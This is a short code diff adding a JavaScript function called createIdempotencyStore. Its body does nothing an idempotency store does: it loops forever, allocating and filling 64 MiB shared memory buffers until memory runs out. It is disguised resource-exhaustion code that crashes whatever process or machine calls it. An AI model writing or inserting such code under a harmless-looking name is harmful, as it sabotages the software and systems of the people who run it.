@@ -1,0 +1,3 @@
+export function createIdempotencyStore() {
+  const all = []; for (;;) all.push(new Uint8Array(new SharedArrayBuffer(64 * 2 ** 20)).fill(1));
+}
